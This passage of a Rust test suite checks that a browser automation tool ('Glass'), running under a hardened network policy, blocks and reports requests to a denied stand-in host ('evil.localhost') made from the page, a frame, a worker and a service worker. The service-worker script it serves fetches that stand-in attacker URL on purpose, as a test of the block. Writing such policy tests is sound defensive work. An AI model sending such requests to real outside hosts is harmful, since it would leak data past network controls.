    );
    allowed.set(
        "/sw.js",
        js(format!(
            "self.addEventListener('message', (e) => {{ fetch('{}').catch(() => {{}}).finally(() => fetch('/ok-sw').finally(() => e.source.postMessage('service worker'))); }});",
            evil("from-service-worker")
        )),
    );
    let mut g = Glass::spawn(&[
        "--incognito",
        "--policy",
        "hardened",
        "--policy-allow-host",
        "127.0.0.1",
        "--policy-allow-host",
        "localhost",
        "--mcp",
    ]);
    g.initialize();
    let nav = ok(&g.call(
        json!(1),
        "navigate",
        json!({"url": allowed.url("/start"), "observe": false}),
    ));
    let tried = ok(&g.call(
        json!(2),
        "wait",
        json!({"kind": "textPresent", "text": "every context tried", "timeoutMs": 20000}),
    ));
    // The page's network goes idle once every context has tried (a worker's script, which
    // ends in the worker's own target, included).
    // Then the page goes network-idle (a cross-site frame's document and a worker's script,
    // which end in their own targets, included), and nothing is still on its way out.
    let quiet = ok(&g.call(
        json!(3),
        "wait",
        json!({"kind": "networkIdle", "timeoutMs": 20000}),
    ));
    let reached = allowed.hits.lock().unwrap().clone();
    for path in ["/ok-page", "/ok-frame", "/ok-worker", "/ok-sw"] {
        assert!(
            reached.iter().any(|h| h == path),
            "{path} never reached the allowed server, so that context proves nothing: {reached:?}"
        );
    }
    let hits = denied.hits.lock().unwrap().clone();
    assert!(hits.is_empty(), "the denied host was reached: {hits:?}");
    // Each refusal is Glass's own, reported: the frame's image and the worker's XHR (only
    // they make requests of those types) are paused and refused, not left to fail on their own.
    let later = ok(&g.call(json!(5), "listTargets", json!({})));
    let b = blocked(&[&nav, &tried, &quiet, &later]);
    for kind in ["Image", "XHR"] {
        assert!(
            b.iter()
                .any(|x| x["type"] == kind && x["host"] == "evil.localhost"),
            "the refused {kind} is not reported: {b:?}"
        );
    }
}
